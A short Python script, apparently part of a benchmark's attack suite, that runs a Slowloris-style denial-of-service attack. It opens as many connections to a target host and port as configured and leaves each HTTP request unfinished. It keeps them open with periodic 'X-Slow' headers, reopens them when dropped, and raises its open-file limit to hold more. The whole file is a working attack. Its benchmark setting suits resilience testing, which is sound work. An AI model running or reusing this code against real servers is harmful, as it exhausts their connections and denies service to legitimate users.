"""Peer that takes the page's places: connections with half a request each, as many as it is let have.

Settings: ``target``, ``port``, ``connections``. Prints how many are open, again and again.
"""

from __future__ import annotations

import asyncio
import resource
from contextlib import suppress

from benchmarks.attacks.rogues.device import settings, tell


async def hold(target: str, port: int, held: set[int], number: int) -> None:
    """Keep one half request alive; open it again when it is ended."""
    while True:
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(20):
                reader, writer = await asyncio.open_connection(target, port)
            held.add(number)
            try:
                writer.write(b"GET / HTTP/1.1\r\nHost: camdetect\r\n")
                await writer.drain()
                while True:
                    with suppress(TimeoutError):
                        async with asyncio.timeout(3):
                            if not await reader.read(1024):
                                break
                    writer.write(b"X-Slow: 1\r\n")
                    await writer.drain()
            finally:
                held.discard(number)
                writer.close()
        await asyncio.sleep(0.5)


async def run() -> None:
    given = settings()
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 8192), most))
    held: set[int] = set()
    tasks = [
        asyncio.create_task(hold(given["target"], given["port"], held, number))
        for number in range(given["connections"])
    ]
    tell("ready", tasks=len(tasks))
    while True:
        await asyncio.sleep(1)
        tell("held", count=len(held))


if __name__ == "__main__":
    asyncio.run(run())
